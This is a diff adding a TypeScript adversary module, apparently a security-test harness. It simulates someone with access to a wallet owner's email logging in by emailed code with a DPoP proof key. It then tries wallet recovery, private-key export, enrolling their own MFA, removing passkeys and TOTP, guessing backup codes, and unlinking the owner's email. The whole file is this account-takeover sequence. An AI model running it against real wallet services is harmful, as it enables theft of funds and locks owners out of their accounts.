@@ -1,0 +1,140 @@
+/**
+ * Someone who reads the owner's mail, and so logs in as the owner whenever they like, from a machine of their own. They know
+ * the wire from its public description, make a proof key (RFC 9449), and ask for whatever opens the wallet or changes what
+ * protects it.
+ */
+import { createHash, generateKeyPairSync, randomBytes, sign } from 'node:crypto';
+
+/** What the thief can reach. */
+export interface Target {
+  readonly url: string;
+  readonly appId: string;
+  /** A page of the app's. */
+  readonly origin: string;
+  readonly email: string;
+  send(request: Request): Promise<Response>;
+  /** The code of the letter that came last. */
+  readCode(): Promise<string>;
+  /** Unix milliseconds. */
+  now(): number;
+}
+
+export interface Answer {
+  readonly status: number;
+  readonly code: string | undefined;
+  readonly json: Record<string, unknown>;
+}
+
+/** A login of the thief's, with a key of its own. */
+export interface Login {
+  readonly token: string;
+  readonly address: string;
+  /** Asks as the service's own frame would. */
+  askAsFrame(path: string, body?: object): Promise<Answer>;
+  /** Asks as a page of the app's would. */
+  askAsPage(path: string, body?: object, method?: string): Promise<Answer>;
+}
+
+const base64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
+const hashOf = (text: string) => base64url(createHash('sha256').update(text).digest());
+
+/** Logs in by the owner's mail. */
+export async function breakIn(target: Target): Promise<Login> {
+  const { appId, email, origin, url } = target;
+  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+  const { kty, crv, x, y } = publicKey.export({ format: 'jwk' });
+  let token = '';
+  let nonce = '';
+
+  async function ask(path: string, init: RequestInit): Promise<Answer> {
+    const headers = { 'privy-app-id': appId, 'content-type': 'application/json', ...init.headers };
+    const response = await target.send(new Request(url + path, { ...init, headers }));
+    nonce = response.headers.get('dpop-nonce') ?? nonce;
+    const json = (await response.json().catch(() => ({}))) as Record<string, unknown>;
+    return { status: response.status, code: json.code as string | undefined, json };
+  }
+
+  const askAsPage: Login['askAsPage'] = (path, body = {}, method = 'POST') =>
+    ask(path, {
+      method,
+      headers: { origin, ...(token === '' ? {} : { authorization: `Bearer ${token}` }) },
+      ...(method === 'GET' ? {} : { body: JSON.stringify(body) }),
+    });
+
+  function prove(path: string, text: string): string {
+    const claims = {
+      ...{
+        jti: base64url(randomBytes(16)),
+        htm: 'POST',
+        htu: url + path,
+        iat: Math.floor(target.now() / 1000),
+      },
+      ...{ ath: hashOf(token), nonce, po: origin, bh: hashOf(text) },
+    };
+    const head = { typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } };
+    const signed = [head, claims].map((part) => base64url(Buffer.from(JSON.stringify(part)))).join('.');
+    const signature = sign('sha256', Buffer.from(signed), { key: privateKey, dsaEncoding: 'ieee-p1363' });
+    return `${signed}.${base64url(signature)}`;
+  }
+
+  const askAsFrame: Login['askAsFrame'] = async (path, body = {}) => {
+    const text = JSON.stringify({ ...body, parent_origin: origin });
+    const send = () =>
+      ask(path, {
+        method: 'POST',
+        body: text,
+        headers: { origin: url, authorization: `DPoP ${token}`, dpop: prove(path, text) },
+      });
+    const first = await send();
+    return first.code === 'use_dpop_nonce' ? send() : first;
+  };
+
+  await askAsPage('/api/v1/passwordless/init', { email });
+  const { json } = await askAsPage('/api/v1/passwordless/authenticate', {
+    email,
+    code: await target.readCode(),
+  });
+  token = String(json.privy_access_token);
+  const accounts = (json.user as { linked_accounts: { type: string; address?: string }[] }).linked_accounts;
+  const address = accounts.find(({ type }) => type === 'wallet')?.address ?? '';
+  return { token, address, askAsFrame, askAsPage };
+}
+
+/** All that a login is tried for, by what it would give the thief. */
+export async function tryEverything(login: Login, email: string): Promise<Record<string, Answer>> {
+  const wallet = { entropy_id: login.address, entropy_id_verifier: 'ethereum-address-verifier' };
+  const number = '+12015550143';
+  const guess = 'A'.repeat(43);
+  return {
+    'the wallet': await login.askAsFrame('/api/v1/frame/wallets/recover', wallet),
+    'the key': await login.askAsFrame('/api/v1/frame/wallets/export', {
+      ...wallet,
+      address: login.address,
+      what: 'key',
+    }),
+    "the owner's cloud": await login.askAsFrame('/api/v1/frame/recovery/cloud', { method: 'icloud' }),
+    'an authenticator app of theirs': await login.askAsFrame('/api/v1/mfa/totp/init'),
+    'an authenticator app without beginning': await login.askAsFrame('/api/v1/mfa/totp/enroll', {
+      code: '123456',
+    }),
+    'a number of theirs': await login.askAsFrame('/api/v1/mfa/passwordless_sms/init', {
+      action: 'enroll',
+      phoneNumber: number,
+    }),
+    'a number of theirs, from a page': await login.askAsPage('/api/v1/mfa/passwordless_sms/init', {
+      action: 'enroll',
+      phoneNumber: number,
+    }),
+    'no authenticator app': await login.askAsFrame('/api/v1/mfa/totp/unenroll'),
+    'no passkeys': await login.askAsFrame('/api/v1/mfa/passkeys/enrollment', { credential_ids: [] }),
+    'backup codes of theirs': await login.askAsFrame('/api/v1/mfa/backup_codes/init'),
+    'a backup code by chance': await login.askAsFrame('/api/v1/mfa/backup_codes/verify', {
+      code: '0123-4567-89AB-CDEF',
+    }),
+    'a recovery by chance': await login.askAsFrame('/api/v1/mfa/recovery/verify', {
+      ...wallet,
+      proof: guess,
+    }),
+    'the owner put out of the mail': await login.askAsPage('/api/v1/passwordless/unlink', { address: email }),
+  };
+}
